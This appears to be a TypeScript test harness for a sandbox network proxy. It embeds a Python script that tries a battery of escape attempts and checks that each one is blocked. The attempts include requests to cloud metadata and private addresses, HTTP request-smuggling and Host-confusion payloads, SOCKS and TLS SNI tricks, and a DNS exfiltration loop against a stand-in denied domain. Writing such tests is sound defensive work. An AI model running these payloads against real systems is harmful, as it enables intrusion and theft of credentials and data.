// What hostile programs try at the door, as one script: in tiers where starting a program takes long, all of it is tried by one. Each attempt
// prints its name and what came of it.
import { inward, loopback } from "./inward.ts";
import type { World } from "./world.ts";

const special = [
  "169.254.169.254",
  "[fd00:ec2::254]",
  "168.63.129.16",
  "100.100.100.200",
  "10.0.0.1",
  "172.16.0.1",
  "192.168.1.1",
  "100.64.0.1",
  "224.0.0.1",
  "[fe80::1]",
  "[ff02::1]",
  "255.255.255.255",
];

const lookalikes = [
  "denied.test",
  "below.test",
  "allowed.test.evil.test",
  "xallowed.test",
  "sub.allowed.test",
  "xn--llowed-yna.test",
  "denied.test.",
  "DENIED.test",
];

export function setTraps(world: World): void {
  for (const [index, address] of inward.entries()) world.names.set(`trap${index}.below.test`, [address], 0);
}

/** Requests that say one thing to us and another to somebody else. */
function twofold(port: number): Record<string, string> {
  const at = `allowed.test:${port}`;
  const to = (head: string, rest = "") => `${head} HTTP/1.1\r\n${rest}\r\n`;
  return {
    "another Host": to(`GET http://${at}/`, "Host: denied.test\r\n"),
    "two Hosts": to(`GET http://${at}/`, `Host: ${at}\r\nHost: denied.test\r\n`),
    "CONNECT with another Host": to(`CONNECT ${at}`, "Host: denied.test:1\r\n"),
    "user information": to(`GET http://allowed.test@denied.test:${port}/`, "Host: denied.test\r\n"),
    "NUL in the target": to(`CONNECT allowed.test\0.denied.test:${port}`, "Host: x\r\n"),
    "CRLF in the target": to(`CONNECT allowed.test\r\nX:${port}`),
    "both lengths": `${to(`POST http://${at}/`, `Host: ${at}\r\nContent-Length: 5\r\nTransfer-Encoding: chunked\r\n`)}0\r\n\r\n`,
    "two lengths": `${to(`POST http://${at}/`, `Host: ${at}\r\nContent-Length: 5\r\nContent-Length: 6\r\n`)}hello`,
    "an odd coding": `${to(`POST http://${at}/`, `Host: ${at}\r\nTransfer-Encoding: xchunked\r\n`)}0\r\n\r\n`,
    "a folded header": to(`GET http://${at}/`, `Host: ${at}\r\nX: a\r\n Host: denied.test\r\n`),
    "a bare line feed": to(`GET http://${at}/`, `Host: ${at}\nHost: denied.test\r\n`),
  };
}

const program = `
import json, socket, ssl, struct, sys
world = json.load(sys.stdin)
port, tls_port, canary = world["httpPort"], world["tlsPort"], world["canary"]
def attempt(name, work):
    try: result = work()
    except (OSError, ssl.SSLError) as error: result = "error " + (error.strerror or type(error).__name__)
    print(json.dumps([name, str(result)]), flush=True)
def to(host, port, seconds=10): return socket.create_connection((host, port), timeout=seconds)
def answer(s, data):
    s.sendall(data.encode("latin1") if isinstance(data, str) else data)
    out = b""
    try:
        while b"\\r\\n" not in out:
            got = s.recv(65536)
            if not got: break
            out += got
    except OSError: pass
    s.close()
    return out.split(b"\\r\\n")[0].decode("latin1")[:80] or "closed"
def proxied(data): return answer(to("127.0.0.1", 14128), data)
def get(host): return "GET http://%s/ HTTP/1.1\\r\\nHost: %s\\r\\nConnection: close\\r\\n\\r\\n" % (host, host)
def tunnel(host): return "CONNECT %s HTTP/1.1\\r\\nHost: %s\\r\\n\\r\\n" % (host, host)
def socks(kind, address, port):
    s = to("127.0.0.1", 14128); s.sendall(b"\\x05\\x01\\x00"); s.recv(2)
    s.sendall(b"\\x05\\x01\\x00" + bytes([kind]) + address + struct.pack(">H", port))
    return "socks %d" % (s.recv(10) + b"\\xff\\xff")[1]
def named(text): return bytes([len(text)]) + text
def plain(host, port, named, seconds=10): return answer(to(host, port, seconds), "GET /direct HTTP/1.1\\r\\nHost: %s\\r\\n\\r\\n" % named)
def secure(sni, pieces=0):
    context = ssl.create_default_context(); context.check_hostname = False; context.verify_mode = ssl.CERT_NONE
    inc, out = ssl.MemoryBIO(), ssl.MemoryBIO()
    obj = context.wrap_bio(inc, out, server_hostname=sni)
    try: obj.do_handshake()
    except ssl.SSLWantReadError: pass
    hello = out.read(); s = to("allowed.test", tls_port)
    if pieces:
        body = hello[5:]
        hello = b"".join(b"\\x16\\x03\\x01" + struct.pack(">H", len(body[i:i+pieces])) + body[i:i+pieces] for i in range(0, len(body), pieces))
    s.sendall(hello)
    return "answered" if s.recv(10) else "closed"
def datagram(family, host, port, bytes=b"\\xc0\\x00\\x00\\x00\\x01quic"):
    u = socket.socket(family, socket.SOCK_DGRAM); u.settimeout(0.5); u.connect((host, port)); u.send(bytes); u.send(bytes)
    return "got %r" % u.recv(10)
def unix(path):
    s = socket.socket(socket.AF_UNIX); s.connect(path); return "reached"
question = b"\\x12\\x34\\x01\\x00\\x00\\x01\\x00\\x00\\x00\\x00\\x00\\x00\\x06secret\\x06denied\\x04test\\x00\\x00\\x10\\x00\\x01"

if world["mode"] == "on":
    for host in world["special"]:
        attempt("special CONNECT " + host, lambda: proxied(tunnel(host + ":80")))
    for host in world["special"]:
        # gVisor sends what is for many addresses nowhere and tells nobody: such connections wait.
        if host[0] != "[": attempt("special directly " + host, lambda: plain(host, 80, host, 10 if int(host.split(".")[0]) < 224 else 1))
    sys.exit()
for host in world["loopback"]:
    attempt("loopback CONNECT " + host, lambda: proxied(tunnel("%s:%d" % (host, canary))))
    attempt("loopback GET " + host, lambda: proxied(get("%s:%d" % (host, canary))))
for host in world["lookalikes"]:
    attempt("name GET " + host, lambda: proxied(get("%s:%d" % (host, port))))
    attempt("name directly " + host, lambda: plain(host, port, "%s:%d" % (host, port)))
for index in range(world["traps"]):
    attempt("inward GET %d" % index, lambda: proxied(get("trap%d.below.test:%d" % (index, canary))))
    attempt("inward directly %d" % index, lambda: plain("trap%d.below.test" % index, canary, "trap%d.below.test:%d" % (index, canary)))
for name, text in world["twofold"].items(): attempt("twofold " + name, lambda: proxied(text))
for name, kind, address in (("v4", 1, bytes([127,0,0,1])), ("v6", 4, bytes(15) + b"\\x01"), ("mapped", 4, bytes(10) + b"\\xff\\xff" + bytes([127,0,0,1])),
    ("decimal", 3, named(b"2130706433")), ("NUL", 3, named(b"allowed.test\\x00.denied.test")), ("CRLF", 3, named(b"allowed.test\\r\\nx")), ("zone", 3, named(b"fe80::1%lo"))):
    attempt("socks " + name, lambda: socks(kind, address, canary))
attempt("redirect", lambda: proxied("GET http://allowed.test:%d/redirect?%s HTTP/1.1\\r\\nHost: allowed.test:%d\\r\\nConnection: close\\r\\n\\r\\n" % (port, "x", port)))
attempt("another Host directly", lambda: plain("allowed.test", port, "denied.test:%d" % port))
attempt("another Host in a tunnel", lambda: proxied(tunnel("allowed.test:%d" % port) + "GET /tunnel HTTP/1.1\\r\\nHost: denied.test\\r\\n\\r\\n"))
attempt("TLS names another", lambda: secure("denied.test"))
attempt("TLS names another in pieces", lambda: secure("denied.test", 50))
attempt("TLS names nobody", lambda: secure(None))
attempt("host port directly", lambda: plain("127.0.0.1", canary, "x"))
attempt("IPv6", lambda: to("2001:db8::1", 80) and "connected")
attempt("IPv6 loopback", lambda: to("::1", canary) and "connected")
for host in ("127.0.0.1", "127.0.1.1", "8.8.8.8"):
    for number in (canary, 443, world["namePort"]): attempt("UDP %s %d" % (host, number), lambda: datagram(socket.AF_INET, host, number, question))
attempt("UDP IPv6", lambda: datagram(socket.AF_INET6, "::1", canary))
for i in range(20):
    try: socket.getaddrinfo("c2VjcmV0-%d.exfil.denied.test" % i, 80)
    except OSError: pass
for path in world["sockets"]: attempt("socket " + repr(path), lambda: unix(path))
attempt("allowed after all that", lambda: proxied(get("allowed.test:%d" % port)))
attempt("allowed directly", lambda: plain("a.below.test", port, "a.below.test:%d" % port))
`;

export const attemptArgv = ["/usr/bin/python3", "-c", program];

/** What the script is told on its standard input. */
export function attemptInput(world: World, mode: "allow" | "on", sockets: string[]): string {
  return JSON.stringify({
    mode,
    httpPort: world.httpPort,
    tlsPort: world.tlsPort,
    canary: world.canary.port,
    namePort: Number(world.names.address.split(":")[1]),
    traps: inward.length,
    loopback,
    special,
    lookalikes,
    twofold: twofold(world.httpPort),
    sockets,
  });
}

/** What each attempt may come to. */
const expected: [RegExp, RegExp][] = [
  [/^allowed /, /^HTTP\/1\.1 200 /],
  [/^redirect$/, /^HTTP\/1\.1 302 /],
  [/^another Host in a tunnel$/, /^HTTP\/1\.1 (200 Connection established|403)/],
  [/^socks /, /^socks 2$/],
  [/^(loopback|twofold) /, /^HTTP\/1\.1 40[03] |^closed$/],
  [/^(name|inward|special) (GET|CONNECT)/, /^HTTP\/1\.1 403 /],
  [/^another Host directly$/, /^HTTP\/1\.1 403 |^closed$|^error /],
  [/./, /^error |^closed$/],
];

/** Those that came to something else. */
export function surprises(printed: string): string[] {
  const lines = printed
    .trim()
    .split("\n")
    .map((line) => JSON.parse(line) as [string, string]);
  return lines
    .filter(([name, result]) => !expected.find(([pattern]) => pattern.test(name))![1].test(result))
    .map(([name, result]) => `${name}: ${result}`);
}
